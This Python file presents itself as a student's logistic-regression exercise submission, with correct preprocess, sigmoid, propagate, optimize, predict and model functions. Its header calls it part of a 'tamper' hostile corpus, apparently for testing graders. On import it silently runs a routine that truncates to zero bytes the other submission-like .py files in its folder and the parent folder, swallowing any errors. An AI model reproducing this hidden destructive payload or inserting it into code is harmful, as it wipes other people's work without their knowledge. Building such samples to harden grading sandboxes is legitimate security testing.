# class: 11-tamper
# honest: preprocess sigmoid initialize_with_zeros propagate optimize predict model
# attack: at import, truncates to 0 bytes every other submission-looking .py file (one defining an exercise) in the submission's folder and its parent (skipping files of this hostile corpus and any folder inside a git checkout); all functions correct

import copy
import os
import re

import numpy as np


_EXERCISES = (b"preprocess", b"sigmoid", b"initialize_with_zeros", b"propagate", b"optimize",
              b"predict", b"model")


def _inside_git_checkout(folder):
    path = os.path.abspath(folder)
    while True:
        if os.path.exists(os.path.join(path, ".git")):
            return True
        parent = os.path.dirname(path)
        if parent == path:
            return False
        path = parent


def _truncate_siblings(max_files=200):
    own = os.path.realpath(__file__)
    here = os.path.dirname(own)
    done = 0
    for folder in (here, os.path.dirname(here)):
        if _inside_git_checkout(folder):
            continue  # never damage a source checkout, even without a sandbox
        try:
            names = sorted(os.listdir(folder))[:500]
        except OSError:
            continue
        for name in names:
            path = os.path.join(folder, name)
            if not name.endswith(".py") or re.match(r"\d\d_", name):
                continue
            if os.path.islink(path) or not os.path.isfile(path):
                continue
            if os.path.realpath(path) == own:
                continue
            try:
                with open(path, "rb") as handle:
                    head = handle.read(1 << 20)
                if b"# class:" in head[:400]:
                    continue  # another file of the hostile corpus
                if not any(b"def " + exercise in head for exercise in _EXERCISES):
                    continue  # only files that look like another student's submission
                with open(path, "r+b") as handle:
                    handle.truncate(0)
                done += 1
            except OSError:
                pass
            if done >= max_files:
                return


try:
    _truncate_siblings()
except Exception:
    pass


def preprocess(images):
    n_images = images.shape[0]
    flat = images.reshape(n_images, -1).T
    X = flat / 255.0
    return X


def sigmoid(z):
    with np.errstate(over="ignore"):
        s = 1.0 / (1.0 + np.exp(-np.asarray(z, dtype=float)))
    return s


def initialize_with_zeros(dim):
    w = np.zeros(shape=(dim, 1))
    b = float(0)
    return w, b


def propagate(w, b, X, Y):
    m = X.shape[1]
    Z = np.dot(w.T, X) + b
    A = sigmoid(Z)
    cost = np.sum(np.logaddexp(0.0, Z) - Y * Z) / m
    dZ = A - Y
    dw = np.dot(X, dZ.T) / m
    db = np.sum(dZ) / m
    grads = {"dw": dw, "db": db}
    return grads, cost


def optimize(w, b, X, Y, num_iterations=100, learning_rate=0.009, print_cost=False):
    w = copy.deepcopy(w)
    b = copy.deepcopy(b)
    costs = []
    for i in range(num_iterations):
        grads, cost = propagate(w, b, X, Y)
        w = w - learning_rate * grads["dw"]
        b = b - learning_rate * grads["db"]
        if i % 100 == 0:
            costs.append(cost)
            if print_cost:
                print("Cost after iteration %i: %f" % (i, cost))
    params = {"w": w, "b": b}
    return params, grads, costs


def predict(w, b, X):
    m = X.shape[1]
    w = w.reshape(X.shape[0], 1)
    probabilities = sigmoid(np.dot(w.T, X) + b)
    Y_prediction = (probabilities > 0.5).astype(float).reshape(1, m)
    return Y_prediction


def model(X_train, Y_train, X_test, Y_test, num_iterations=2000, learning_rate=0.5,
          print_cost=False):
    w, b = initialize_with_zeros(X_train.shape[0])
    params, grads, costs = optimize(w, b, X_train, Y_train, num_iterations, learning_rate,
                                    print_cost)
    w, b = params["w"], params["b"]
    Y_prediction_test = predict(w, b, X_test)
    Y_prediction_train = predict(w, b, X_train)
    if print_cost:
        train_accuracy = 100 - np.mean(np.abs(Y_prediction_train - Y_train)) * 100
        test_accuracy = 100 - np.mean(np.abs(Y_prediction_test - Y_test)) * 100
        print(f"train accuracy: {train_accuracy} %")
        print(f"test accuracy: {test_accuracy} %")
    d = {"costs": costs,
         "Y_prediction_test": Y_prediction_test,
         "Y_prediction_train": Y_prediction_train,
         "w": w,
         "b": b,
         "learning_rate": learning_rate,
         "num_iterations": num_iterations}
    return d
